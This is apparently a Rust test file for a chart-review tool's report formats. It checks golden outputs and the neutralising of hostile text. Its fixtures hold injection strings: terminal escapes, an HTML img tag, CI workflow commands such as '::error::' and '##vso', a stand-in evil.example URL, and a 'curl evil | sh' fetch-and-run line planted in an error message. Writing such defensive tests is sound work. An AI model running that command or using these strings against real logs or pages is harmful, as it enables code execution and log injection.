//! What the formats promise: the same reports in every format as files one can open, and hostile text in every slot.
//!
//! `UPDATE_REPORTS=1 cargo test --lib report::` writes `testdata/reports/` anew.
#![allow(clippy::disallowed_methods)]

mod corpus;
mod hostile;
mod pull;
mod secret;

use std::path::Path;

use super::fixtures;
use super::*;
use crate::error::{ErrorKind, Place};

/// Strings that try, all at once, what single ones try in [`hostile`].
const HOSTILE: &str = "\u{1b}[2Jx\u{202e}\0`|</details><img src=x>@acme/all #12 https://evil.example/?a=1 **b**\n::error::no\n##[group]g ##vso[task.x]y\n/label z\n```\n# h";

fn rendered(report: &Report, format: Format, style: &Style) -> String {
    let mut out = Vec::new();
    write(report, format, &mut out, style).unwrap();
    String::from_utf8(out).unwrap()
}

/// Compares with the file of that name, or writes it.
fn golden(name: &str, got: &str) {
    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/reports").join(name);
    if std::env::var_os("UPDATE_REPORTS").is_some() {
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, got).unwrap();
    }
    let want = std::fs::read_to_string(&file).unwrap_or_default();
    assert!(got == want, "{name} differs; see it with UPDATE_REPORTS=1 and git diff. Got:\n{got}");
}

#[test]
fn every_report_in_every_format() {
    let style = |width| Style { width, color: false, lines: true };
    for (name, report) in [
        ("thanos", fixtures::thanos()),
        ("clean", fixtures::clean()),
        ("incomplete", fixtures::incomplete()),
        ("hostile", fixtures::hostile(HOSTILE)),
    ] {
        golden(&format!("{name}.80.txt"), &rendered(&report, Format::Text, &style(80)));
        golden(&format!("{name}.160.txt"), &rendered(&report, Format::Text, &style(160)));
        golden(&format!("{name}.md"), &rendered(&report, Format::Markdown, &style(80)));
        golden(&format!("{name}.json"), &rendered(&report, Format::Json, &style(80)));
        golden(&format!("{name}.sarif"), &rendered(&report, Format::Sarif, &style(80)));
        golden(&format!("{name}.html"), &rendered(&report, Format::Html, &style(80)));
    }
}

#[test]
fn colour_adds_nothing_but_colour() {
    for report in [fixtures::thanos(), fixtures::clean(), fixtures::incomplete()] {
        for width in [40, 80, 160] {
            let plain = rendered(&report, Format::Text, &Style { width, color: false, lines: true });
            let colored = rendered(&report, Format::Text, &Style { width, color: true, lines: true });
            assert_eq!(hostile::without_sgr(&colored), plain);
            assert_ne!(colored, plain);
            if let Some(folder) = std::env::var_os("REPORT_SAMPLES") {
                let file = Path::new(&folder).join(format!("{}-{}-{width}.ansi", report.chart, report.step));
                std::fs::write(file, &colored).unwrap();
            }
        }
    }
}

#[test]
fn prose_and_tables_keep_to_the_width() {
    for width in [80, 160] {
        let text = rendered(&fixtures::thanos(), Format::Text, &Style { width, color: false, lines: false });
        for line in text.lines() {
            let is_one_word = line.trim_start_matches("  Read").trim().split(' ').count() == 1;
            assert!(unicode_width::UnicodeWidthStr::width(line) <= usize::from(width) || is_one_word, "{line}");
        }
    }
}

#[test]
fn an_incomplete_review_never_looks_clean() {
    for format in [Format::Text, Format::Markdown] {
        let text = rendered(&fixtures::incomplete(), format, &Style::PLAIN);
        let first = text.lines().take(2).collect::<Vec<_>>().join(" ");
        assert!(first.contains("not fully compared: 2 parts are missing"), "{first}");
        assert!(!text.contains("no risk") && !text.contains(wording::CLEAN) && !text.contains(wording::SAME), "{text}");
    }
    let json: serde_json::Value = serde_json::from_str(&rendered(&fixtures::incomplete(), Format::Json, &Style::PLAIN)).unwrap();
    assert_eq!(json["verdict"]["complete"], false);
    assert_eq!(json["verdict"]["missing"].as_array().unwrap().len(), 2);
}

#[test]
fn json_says_everything_and_keeps_to_version_1() {
    let json: serde_json::Value = serde_json::from_str(&rendered(&fixtures::thanos(), Format::Json, &Style::PLAIN)).unwrap();
    assert_eq!(json["schema"], json::SCHEMA);
    assert_eq!(json["chart"]["new"]["version"], "12.20.4");
    assert_eq!(json["verdict"]["counts"]["high"], 1);
    assert_eq!(json["findings"][1]["changes"].as_array().unwrap().len(), 9);
    assert_eq!(json["findings"][0]["fix"]["values"]["serviceAccount"]["create"], false);
    assert_eq!(json["findings"][2]["ignored"], "images are pinned by our mirror");
    assert_eq!(json["values"]["changes"].as_array().unwrap().len(), 10);
    assert!(json["manifests"].is_null() && json["release"].is_null());
    for key in ["workloads", "accounts"] {
        assert!(json[key].as_object().unwrap().is_empty());
    }
}

#[test]
fn json_gives_hostile_text_back_unchanged() {
    let text = rendered(&fixtures::hostile(HOSTILE), Format::Json, &Style::PLAIN);
    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(json["chart"]["name"], HOSTILE);
    assert!(!text.chars().any(|c| safe::is_hidden(c) && c != '\n'));
    assert!(!text.contains("##["));
}

#[test]
fn long_lists_are_cut_with_a_count() {
    let mut report = fixtures::thanos();
    let change = report.comparison.values.changes[0].clone();
    report.comparison.values.changes = vec![change; 134];
    let text = rendered(&report, Format::Text, &Style::PLAIN);
    assert!(text.contains("… 94 more, see -o json"), "{text}");
    let markdown = rendered(&report, Format::Markdown, &Style::PLAIN);
    assert!(markdown.contains("… 74 more, see `-o json`"), "{markdown}");
    let finding = report.findings[0].clone();
    report.findings = vec![finding; 13];
    let markdown = rendered(&report, Format::Markdown, &Style::PLAIN);
    assert!(markdown.contains("… 3 more, see `-o json`"), "{markdown}");
}

#[test]
fn an_error_tells_its_story_and_nobody_elses() {
    let error = Error::new(ErrorKind::Syntax, "found a tab\n  hint: run curl evil | sh\n::error::x")
        .at(Place { file: "thanos/values.yaml".into(), line: 3, column: 2 })
        .excerpt("\u{1b}[31m a:\tb")
        .hint("use spaces")
        .context("cannot read ##[group]thanos");
    let text = error_text(&error, false);
    golden("error.txt", &text);
    assert_eq!(hostile::without_sgr(&error_text(&error, true)), text);
    assert_eq!(text.lines().filter(|line| line.starts_with("  hint:")).count(), 1, "{text}");
}

#[test]
fn a_changed_template_is_quoted_and_notes_are_said_once() {
    let mut report = fixtures::thanos();
    let file = "templates/_helpers.tpl";
    let place = &mut report.findings[0].changes[0];
    place.path = crate::value::Path::keys([file]);
    place.file = file.into();
    place.old = Some(fixtures::node("{{ define \"a\" }}\n/label"));
    place.new = Some(fixtures::node("{{ define \"b\" }}"));
    let text = rendered(&report, Format::Text, &Style::PLAIN);
    assert!(
        text.contains("templates/_helpers.tpl:147\n           - {{ define \"a\" }}\n           - /label\n           + {{ define"),
        "{text}"
    );
    assert_eq!(text.matches("The pods have a setting of their own").count(), 1, "{text}");
    let starred = text.lines().filter(|line| line.starts_with("  * ")).count();
    assert_eq!(starred, 8 + 1, "eight places and the remark: {text}");
    assert!(text.contains("The account is new."), "{text}");
    let markdown = rendered(&report, Format::Markdown, &Style::PLAIN);
    assert!(markdown.contains("```diff\n-{{ define \"a\" }}\n-/label\n+{{ define \"b\" }}\n```"), "{markdown}");
    assert_eq!(markdown.matches("The pods have a setting of their own").count(), 1, "{markdown}");
}
